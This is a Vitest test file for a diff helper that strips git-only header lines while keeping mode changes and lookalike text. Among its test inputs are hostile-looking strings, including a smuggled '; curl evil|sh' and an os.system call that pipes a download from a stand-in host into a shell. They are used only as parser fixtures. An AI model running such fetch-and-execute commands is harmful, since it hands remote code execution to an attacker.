import { expect, test } from 'vitest'
import { withoutGitHeaders } from './diff.ts'

const header = 'diff --git a/x b/x\nindex 1234abc..5678def 100644\n'
const body = '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n'

test('lines that only git reads are removed, in every file of a diff', () => {
  expect(withoutGitHeaders(header + body + header + body)).toBe(body + body)
  expect(withoutGitHeaders(`diff --git a/x b/x\nnew file mode 100644\n${body}`)).toBe(body)
})

test('a file that becomes executable keeps its mode line', () => {
  expect(withoutGitHeaders(`diff --git a/x b/x\nnew file mode 100755\n${body}`)).toBe(`new file mode 100755\n${body}`)
})

test.each([
  'index = __import__("os").system("curl evil|sh")\n--- x\n',
  'diff --git a b\nindex = evil()\n--- x\n',
  'diff --git a b; curl evil|sh\n',
  'new file mode of speech\n',
])('%j is not a header, and stays', (text) => expect(withoutGitHeaders(text)).toBe(text))
